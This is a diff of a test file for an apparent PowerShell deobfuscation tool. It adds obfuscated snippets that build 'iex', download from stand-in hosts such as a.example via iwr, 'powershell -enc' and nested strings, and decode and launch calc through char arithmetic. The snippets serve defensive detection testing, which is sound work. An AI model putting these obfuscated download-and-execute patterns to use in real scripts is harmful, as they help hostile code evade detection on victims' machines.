@@ -46,7 +46,7 @@ TEXTS = [
     ("[char]105+[char]0x65+[char]120", "'iex'", "char-code"),
     ("([char[]](105,101) -join '')+'x'", "'iex'", "char-code"),
     ("'abcXXX'.Replace('XXX','def') -replace 'abc','z'", "'zdef'", "replace"),
-    ("('i e x' -split ' ') -join ''", "('i e x' -split ' ') -join ''"[:0] + "'iex'", "split"),
+    ("('i e x' -split ' ') -join ''", "'iex'", "split"),
     ("( [regex]::Matches('xei','.','RightToLeft')|%{$_.value}) -join ''", "'iex'", "reverse"),
     ("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBlAHgA'))", "'iex'", "base64"),
     ("[string]::Concat('i','e','x')", "'iex'", ""),
@@ -90,6 +90,12 @@ CALLS = [
     ("if ($x) { iwr http://a.example/ } else { ii C:\\a.exe }", "starts C:\\a.exe"),
     ("try{iwr http://a.example/}catch{saps calc.exe}", "starts calc.exe"),
     ("function f { iwr http://a.example/f }; f", "downloads http://a.example/f"),
+    ('powershell -c "&{ iwr http://a.example/ }"', "downloads http://a.example/"),
+    (
+        'powershell $a="$b=\\"http://a.example/,http://b.example/\\".Split(\\",\\");foreach($c in $b){iwr $c}";',
+        "downloads http://b.example/",
+    ),
+    ("powershell -enc $a='http://a.example/';iwr $a", "downloads http://a.example/"),
     ("$w=New-Object -ComObject WScript.Shell;$w.Run('calc.exe')", "starts calc.exe"),
 ]
 
@@ -124,6 +130,11 @@ def test_what_it_does(script, call):
             b"sc",
         ),
         ("$s=@'\nhello 'there'\n'@; iex $s", b"hello 'there'"),
+        (
+            "function d($a){$k=5;$r=$null;foreach($i in $a){$r+=[char]($i-$k)};return $r}"
+            "sal x (d @(110,106,125));x((d @(104,102,113,104)))",
+            b"calc",
+        ),
     ],
 )
 def test_layers_come_out(script, layer):
